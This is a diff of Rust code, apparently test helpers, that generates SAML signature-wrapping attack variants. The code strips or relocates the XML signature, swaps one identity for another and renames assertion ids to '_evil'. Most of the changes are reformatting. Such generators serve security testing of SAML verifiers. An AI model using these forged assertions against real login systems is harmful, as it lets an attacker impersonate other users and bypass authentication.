@@ -17,7 +17,9 @@ fn id(element: &str) -> &str {
 /// The assertion as the attacker wants it read: without signature, under another id.
 fn evil_assertion(assertion: &str, from: &str, to: &str) -> String {
     let unsigned = assertion.replace(element(assertion, "ds:Signature"), "");
-    unsigned.replace(from, to).replacen(id(assertion), "_evil", 1)
+    unsigned
+        .replace(from, to)
+        .replacen(id(assertion), "_evil", 1)
 }
 
 /// The variant of a response in which `from` is to be read as `to`. Each kind of the response is signed as it needs.
@@ -26,6 +28,8 @@ pub(super) fn wrapped(xml: &str, variant: u8, from: &str, to: &str) -> String {
     if variant <= 2 {
         let original = xml.replacen(signature, "", 1);
         let evil = original.replace(from, to).replacen(id(xml), "_evil", 1);
+        let inner = id(element(&original, "saml:Assertion"));
+        let evil = evil.replacen(inner, "_inner", 1);
         let moved = if variant == 1 {
             signature.replace("</ds:Signature>", &format!("{original}</ds:Signature>"))
         } else {
@@ -43,7 +47,10 @@ pub(super) fn wrapped(xml: &str, variant: u8, from: &str, to: &str) -> String {
     };
     let replacement = match variant {
         3 => format!("{evil}{assertion}"),
-        4 => evil.replace("</saml:Assertion>", &format!("{assertion}</saml:Assertion>")),
+        4 => evil.replace(
+            "</saml:Assertion>",
+            &format!("{assertion}</saml:Assertion>"),
+        ),
         5 => format!("{}{unsigned}", with(&evil, signature)),
         6 => {
             let inner = signature.replace("</ds:Signature>", &format!("{unsigned}</ds:Signature>"));
